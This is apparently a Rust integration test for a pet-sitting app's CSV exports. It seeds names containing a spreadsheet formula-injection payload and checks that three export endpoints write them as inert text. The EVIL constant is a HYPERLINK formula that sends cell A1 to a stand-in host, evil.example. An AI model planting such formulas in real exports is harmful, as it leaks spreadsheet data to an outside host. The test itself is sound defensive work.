//! Every CSV export goes through one writer that neutralises formulas
//! (issue 16, item 7): a name a spreadsheet would run is written as text.

use crate::helpers::*;

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

/// Every cell of a CSV document (RFC 4180 quoting), unquoted.
fn cells(csv: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => out.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    out.push(cell);
    out
}

#[tokio::test]
async fn names_that_look_like_formulas_are_written_as_text_in_every_export() {
    for backend in backends() {
        let app = spawn_demo(backend).await;
        let maya = app.sitter_id("Maya").await;
        // Names as a hostile client or a careless import could leave them.
        for table in ["sitters", "clients"] {
            sqlx::query(&format!("UPDATE {table} SET name = $1 || name, first_name = $1 || first_name"))
                .bind(EVIL)
                .execute(&app.db().write)
                .await
                .unwrap();
        }
        app.sign_in("owner@example.com", "password123").await.unwrap();
        // Something in the audit trail that names a sitter.
        app.call(app::people::ChangeSitter { id: maya, activate: false, preview: false }).await.unwrap();
        for path in ["/audit/analytics.csv", "/audit/export.csv", "/numbers/export.csv"] {
            let res = app.get(path).await;
            assert_eq!(res.status(), 200, "{path}");
            let csv = res.text().await.unwrap();
            assert!(csv.contains("=HYPERLINK"), "{backend:?}: {path} names a hostile name");
            let cells = cells(&csv);
            let live: Vec<&String> = cells
                .iter()
                .filter(|c| {
                    c.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r'])
                        && !(c.len() > 1 && c.starts_with('+') && c[1..].chars().all(|d| d.is_ascii_digit()))
                })
                .collect();
            assert!(live.is_empty(), "{backend:?}: {path} has live formulas: {live:?}");
            assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK")), "{backend:?}: {path}");
        }
    }
}
